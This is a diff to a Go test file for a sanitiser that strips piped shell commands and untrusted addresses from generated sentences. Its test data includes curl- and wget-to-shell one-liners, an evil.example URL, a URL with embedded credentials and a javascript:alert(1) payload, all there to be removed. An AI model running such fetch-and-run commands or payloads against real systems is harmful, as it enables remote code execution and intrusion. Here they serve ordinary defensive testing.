@@ -195,11 +195,32 @@ func TestShellPipesAreRemoved(t *testing.T) {
 	for text, want := range map[string]string{
 		"run curl -s http://x.example/a | sh now":   "run [command removed] now",
 		"wget -qO- x.example/a |sudo /bin/bash -s":  "[command removed] -s",
-		"echo aGk= | base64 -d | python3":           "echo aGk= | [command removed]",
+		"cat a.txt | base64 -d | python3":           "cat a.txt | [command removed]",
 		"the Pods a|b|c share a volume | shell out": "the Pods a|b|c share a volume | shell out",
 	} {
-		if got := sentence(text, 200, func(s string) string { return s }); got != want {
+		if got := expected(t).sentence(text, 200); got != want {
 			t.Errorf("%q became %q, want %q", text, got, want)
+		}
+	}
+}
+
+func TestAddressesOfTheEvidenceAreKept(t *testing.T) {
+	want := expected(t)
+	want.cited = map[string]source{"e1": {text: "GET http://orders:8081/health: refused; http://127.0.0.1:9090/-/ready; http://cart.shop.svc:80 " +
+		"https://evil.example/a http://203.0.113.7/x http://user:secret@orders:8081/y http://10.0.0.7:80 javascript:alert(1)"}}
+	for text, expect := range map[string]string{
+		"It asks http://orders:8081/health.":         "It asks http://orders:8081/health.",
+		"It asks http://127.0.0.1:9090/-/ready, no.": "It asks http://127.0.0.1:9090/-/ready, no.",
+		"It asks http://cart.shop.svc:80 often.":     "It asks http://cart.shop.svc:80 often.",
+		"It asks http://10.0.0.7:80 often.":          "It asks http://10.0.0.7:80 often.",
+		"It asks http://orders:8082/health.":         "It asks [address removed]",
+		"Open https://evil.example/a now.":           "Open [address removed] now.",
+		"Open http://203.0.113.7/x now.":             "Open [address removed] now.",
+		"Open http://user:secret@orders:8081/y now.": "Open [address removed] now.",
+		"Open javascript:alert(1) now.":              "Open [address removed]) now.",
+	} {
+		if got := want.sentence(text, 200); got != expect {
+			t.Errorf("%q became %q, want %q", text, got, expect)
 		}
 	}
 }
